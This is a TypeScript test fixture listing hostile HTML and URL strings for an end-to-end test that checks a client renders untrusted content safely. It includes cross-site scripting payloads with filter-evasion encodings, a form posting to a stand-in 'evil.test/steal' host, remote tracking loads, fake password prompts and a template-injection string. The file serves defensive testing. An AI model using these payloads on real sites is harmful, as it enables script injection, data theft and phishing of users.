/**
 * Our own corpus of hostile HTML and URLs, for test/e2e/hostile-server.test.ts. Each vector, if it
 * worked, would run script (calling window.__pwned), navigate the page, or load something from a
 * host other than loopback (evil.test, attacker.test). None of it may.
 */
const EVIL = 'https://evil.test';
const PWN = 'window.__pwned=(window.__pwned||0)+1';

/** Markup that tries to run script. */
const SCRIPT = [
  `<script>${PWN}</script>`,
  `<img src=x onerror="${PWN}">`,
  `<img src="/nope" onerror=${PWN}>`,
  `<svg onload="${PWN}"></svg>`,
  `<svg><script>${PWN}</script></svg>`,
  `<body onload="${PWN}">`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__pwned=1"></iframe>`,
  `<object data="javascript:${PWN}"></object>`,
  `<embed src="javascript:${PWN}">`,
  `<a href="javascript:${PWN}">click</a>`,
  `<a href=" JaVaScRiPt:${PWN}">click</a>`,
  `<a href="java&#x09;script:${PWN}">tab</a>`,
  `<a href="&#106;avascript:${PWN}">entity</a>`,
  `<a href="vbscript:msgbox(1)">vb</a>`,
  `<a href="data:text/html,<script>${PWN}</script>">data</a>`,
  `<form action="javascript:${PWN}"><button>go</button></form>`,
  `<button formaction="javascript:${PWN}">go</button>`,
  `<input autofocus onfocus="${PWN}">`,
  `<details open ontoggle="${PWN}"></details>`,
  `<video><source onerror="${PWN}"></video>`,
  `<audio src=x onerror="${PWN}"></audio>`,
  `<marquee onstart="${PWN}">m</marquee>`,
  `<div onmouseover="${PWN}" style="position:fixed;inset:0">cover</div>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${PWN}"></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${PWN}>"></noscript>`,
  `<template><script>${PWN}</script></template>`,
  `<style>@import 'javascript:${PWN}';</style>`,
  `<div style="background:url(javascript:${PWN})">bg</div>`,
  `<div style="behavior:url(#default#time2)">b</div>`,
  `<isindex action="javascript:${PWN}">`,
  `<svg><a xlink:href="javascript:${PWN}"><text y="20">svg link</text></a></svg>`,
  `<svg><animate onbegin="${PWN}" attributeName="x" dur="1s"/></svg>`,
  `<svg><set attributeName="onmouseover" to="${PWN}"/></svg>`,
  `<img srcset="x 1x" onerror="${PWN}">`,
  `<picture><source srcset="x"><img src=x onerror="${PWN}"></picture>`,
  `<p>&lt;script&gt;${PWN}&lt;/script&gt;</p><script>${PWN}</script>`,
  `<scr<script>ipt>${PWN}</scr</script>ipt>`,
  `<img src="x" onerror\n="${PWN}">`,
  `<img src=\`x\` onerror=\`${PWN}\`>`,
  `<a href="#" onclick="${PWN}">onclick</a>`,
  `<div id="x" tabindex="1" onfocusin="${PWN}">f</div>`,
  `<xss onanimationstart="${PWN}" style="animation-name:spin">a</xss>`,
  `<table background="javascript:${PWN}"><tr><td>t</td></tr></table>`,
  `<link rel="stylesheet" href="javascript:${PWN}">`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe></foreignObject></svg>`,
  `<span class="user-mention" data-user-id="1" onclick="${PWN}">@mention</span>`,
  `<time datetime="2026-01-01" onmouseover="${PWN}">time</time>`,
  `<div class="spoiler-block"><div class="spoiler-header" onclick="${PWN}">s</div></div>`,
  `<code onclick="${PWN}">code</code>`,
];

/** Markup that tries to leave the page or change where it is. */
const NAVIGATION = [
  `<meta http-equiv="refresh" content="0;url=${EVIL}/">`,
  `<base href="${EVIL}/">`,
  `<a href="${EVIL}/" target="_self">same frame</a>`,
  `<a href="${EVIL}/" target="_top">top</a>`,
  `<form action="${EVIL}/steal" method="post"><input name="k" value="v"><button>send</button></form>`,
  `<iframe src="${EVIL}/frame"></iframe>`,
  `<iframe name="x" src="about:blank"></iframe><a href="${EVIL}" target="x">x</a>`,
  `<area href="${EVIL}/" shape="default">`,
  `<a href="file:///etc/passwd">file</a>`,
  `<a href="//evil.test/protocol-relative">pr</a>`,
  `<a href="\\\\evil.test\\share">unc</a>`,
  `<a href="zulip://login?otp=1">custom scheme</a>`,
  `<a href="#narrow/channel/1-x" onclick="location='${EVIL}'">narrow</a>`,
  `<object data="${EVIL}/obj"></object>`,
  `<embed src="${EVIL}/embed">`,
  `<portal src="${EVIL}/portal"></portal>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">b64</a>`,
  `<a ping="${EVIL}/ping" href="https://example.org/">ping</a>`,
  `<form><button formaction="${EVIL}/f">f</button></form>`,
  `<svg><a href="${EVIL}/svg"><text y="15">svg</text></a></svg>`,
];

/** Markup that tries to load something from elsewhere (a tracking pixel, a font, a style). */
const REMOTE = [
  `<img src="${EVIL}/pixel.png">`,
  `<img src="http://attacker.test/pixel.gif">`,
  `<img srcset="${EVIL}/a.png 1x, ${EVIL}/b.png 2x">`,
  `<picture><source srcset="${EVIL}/s.webp"><img src="${EVIL}/p.png"></picture>`,
  `<video poster="${EVIL}/poster.png" src="${EVIL}/v.mp4"></video>`,
  `<audio src="${EVIL}/a.mp3" autoplay></audio>`,
  `<link rel="stylesheet" href="${EVIL}/s.css">`,
  `<link rel="preload" href="${EVIL}/p.js" as="script">`,
  `<link rel="dns-prefetch" href="${EVIL}">`,
  `<style>@import url(${EVIL}/i.css);</style>`,
  `<style>body{background:url(${EVIL}/bg.png)}</style>`,
  `<div style="background-image:url(${EVIL}/bg.png)">bg</div>`,
  `<style>@font-face{font-family:x;src:url(${EVIL}/f.woff)}</style>`,
  `<table background="${EVIL}/t.png"><tr><td>t</td></tr></table>`,
  `<body background="${EVIL}/b.png">`,
  `<input type="image" src="${EVIL}/i.png">`,
  `<svg><image href="${EVIL}/s.png" width="10" height="10"/></svg>`,
  `<svg><use href="${EVIL}/sprite.svg#x"/></svg>`,
  `<img src="${EVIL}/x.png" loading="eager">`,
  `<div class="message_inline_image"><a href="${EVIL}/full.png"><img src="${EVIL}/thumb.png"></a></div>`,
  `<div class="message_embed"><a class="message_embed_image" href="${EVIL}" style="background-image:url(${EVIL}/e.png)"></a></div>`,
  `<img src="//attacker.test/protocol-relative.png">`,
  `<object data="${EVIL}/o.swf" type="application/x-shockwave-flash"></object>`,
  `<track src="${EVIL}/t.vtt">`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${EVIL}/n.png'/></svg>">`,
];

/** Markup that borrows the app's own look to fake its interface. */
const SPOOF = [
  `<div class="toast error" style="position:fixed;top:0;left:0;right:0;z-index:9999">Your session expired. Sign in again</div>`,
  `<div class="backdrop"><div class="dialog" role="dialog">Enter your password</div></div>`,
  `<div class="sign-in"><input type="password" placeholder="Password"></div>`,
  `<div class="banner" style="position:absolute;top:-500px">overlay</div>`,
  `<div class="safe-html" style="transform:translateY(-400px)">moved</div>`,
];

export const HOSTILE_HTML: readonly string[] = [...SCRIPT, ...NAVIGATION, ...REMOTE, ...SPOOF];

/** Plain-text fields (topic names, names) get the same strings: they must show as text. */
export const HOSTILE_TEXT: readonly string[] = [
  `<img src=x onerror="${PWN}">`,
  `"><script>${PWN}</script>`,
  `javascript:${PWN}`,
  `{{constructor.constructor('${PWN}')()}}`,
  `\u202Egnp.exe`,
];
